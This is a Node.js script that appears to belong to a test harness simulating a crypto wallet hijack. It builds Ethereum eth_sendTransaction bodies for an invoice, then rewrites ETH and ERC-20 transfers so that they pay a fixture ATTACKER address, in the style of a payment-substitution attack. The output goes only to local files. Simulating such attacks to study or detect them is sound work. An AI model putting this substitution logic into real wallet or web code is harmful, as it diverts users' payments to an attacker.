// build_calls.mjs INVOICE.json OUTDIR - the client side of tls_session.sh.
// Reads the invoice the server delivered and writes the JSON-RPC bodies a hijacked page would
// send: the wallet calls are built with ethers v6 for the invoice's payee, then the
// September-2025-style substitution replaces the payee with the attacker address:
//   OUTDIR/send_eth.json    eth_sendTransaction, value transfer, `to` substituted
//   OUTDIR/send_token.json  eth_sendTransaction, ERC-20 transfer(recipient substituted)
import fs from 'node:fs';
import { ethers } from 'ethers';
import { ATTACKER, WALLET, transferData } from './fixtures.mjs';

const [invPath, out] = process.argv.slice(2);
const inv = JSON.parse(fs.readFileSync(invPath, 'utf8'));
const payee = ethers.getAddress(inv.payee);
const token = ethers.getAddress(inv.token);

// What the page asked for ...
const wanted = [
  { from: WALLET, to: payee, value: ethers.toQuantity(BigInt(inv.amount_wei)), gas: '0x5208' },
  { from: WALLET, to: token, value: '0x0', gas: '0xfde8',
    data: transferData(payee, BigInt(inv.token_amount)) },
];
// ... and what the hijacked wallet path sends (the payload's eth_sendTransaction rewrite).
const hijack = (tx) => {
  if (tx.data && tx.data.startsWith('0xa9059cbb')) {
    const [, amount] = ethers.AbiCoder.defaultAbiCoder().decode(
      ['address', 'uint256'], '0x' + tx.data.slice(10));
    return { ...tx, data: transferData(ATTACKER, amount) };
  }
  return BigInt(tx.value) > 0n ? { ...tx, to: ATTACKER } : tx;
};
const body = (id, tx) => JSON.stringify({ jsonrpc: '2.0', id, method: 'eth_sendTransaction',
                                          params: [hijack(tx)] });
fs.writeFileSync(`${out}/send_eth.json`, body(1, wanted[0]));
fs.writeFileSync(`${out}/send_token.json`, body(2, wanted[1]));
